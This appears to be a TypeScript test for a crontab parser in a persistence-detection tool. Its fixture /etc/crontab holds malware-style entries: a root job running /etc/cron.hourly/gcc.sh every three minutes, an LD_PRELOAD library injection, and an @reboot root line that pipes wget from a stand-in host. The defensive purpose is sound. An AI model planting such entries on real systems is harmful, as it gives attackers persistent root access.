import assert from 'node:assert/strict'
import { testKind } from '../../test/kinds.ts'
import { systemCrontab } from './system-crontab.ts'

const crontab = `# /etc/crontab: system-wide crontab
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
*/3 * * * * root /etc/cron.hourly/gcc.sh
LD_PRELOAD=/usr/local/lib/libioset.so
@reboot root sh % wget -qO- http://192.0.2.7/a
`

testKind(systemCrontab, {
  tree: { '/etc/crontab': crontab },
  lists: [
    '/etc/crontab:4 cd / && run-parts --report /etc/cron.hourly',
    '/etc/crontab:5 /etc/cron.hourly/gcc.sh',
    '/etc/crontab:6 /usr/local/lib/libioset.so',
    '/etc/crontab:7 sh % wget -qO- http://192.0.2.7/a',
  ],
  also: entries =>
    assert.deepEqual(
      entries.map(e => [e.trigger, e.when, e.user]),
      [
        ['schedule', '17 * * * *', 'root'],
        ['schedule', '*/3 * * * *', 'root'],
        ['load', 'LD_PRELOAD', ''],
        ['boot', '@reboot', 'root'],
      ],
    ),
})
